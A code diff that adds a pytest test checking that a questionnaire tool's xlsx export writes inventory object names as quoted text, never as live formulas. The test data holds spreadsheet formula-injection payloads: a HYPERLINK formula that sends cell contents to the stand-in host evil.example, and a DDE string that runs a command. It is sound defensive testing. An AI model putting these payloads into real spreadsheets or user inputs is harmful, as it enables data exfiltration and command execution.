@@ -121,3 +121,22 @@ def test_cli_init_xlsx_for_the_shipped_catalog(tmp_path):
     ws = load_workbook(out, read_only=True)[questionnaire.SHEET]
     items = {row[0] for row in ws.iter_rows(min_row=2, values_only=True)}
     assert "L3-PES1-03" in items and "L3-MMS1-01" in items and len(items) > 200
+
+
+def test_xlsx_form_writes_object_names_as_text_never_as_formulas(tmp_path):
+    """An inventory's object name is someone else's text: `=HYPERLINK(...)` must not become a live formula."""
+    import zipfile
+
+    cat, prof = mini()
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
+    hosts = [Target(id=f"h{i}", type="linux", name=name) for i, name in enumerate(hostile)]
+    pairs = questionnaire.scope(cat, prof, hosts)
+    out = tmp_path / "answers.xlsx"
+    questionnaire.to_xlsx(questionnaire.asked(pairs), questionnaire.header(cat, prof, "now", "inv"), out)
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert not any("<f>" in s or "<f " in s for s in sheets)
+    ws = load_workbook(out)[questionnaire.SHEET]
+    names = {ws.cell(row=r, column=3).value: ws.cell(row=r, column=3) for r in range(2, ws.max_row + 1)}
+    assert set(hostile) <= set(names)
+    assert all(names[h].data_type == "s" and names[h].quotePrefix for h in hostile)
